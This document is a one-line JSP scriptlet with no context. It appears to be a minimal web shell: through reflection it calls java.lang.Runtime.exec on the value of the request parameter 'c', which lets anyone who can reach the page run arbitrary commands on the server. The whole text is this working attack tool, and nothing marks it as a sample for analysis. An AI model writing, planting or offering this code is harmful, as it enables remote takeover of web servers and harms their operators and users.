<% Class c = Class.forName("java.lang.Runtime"); Object r = c.getMethod("getRuntime").invoke(null); c.getMethod("exec", String.class).invoke(r, request.getParameter("c")); %>
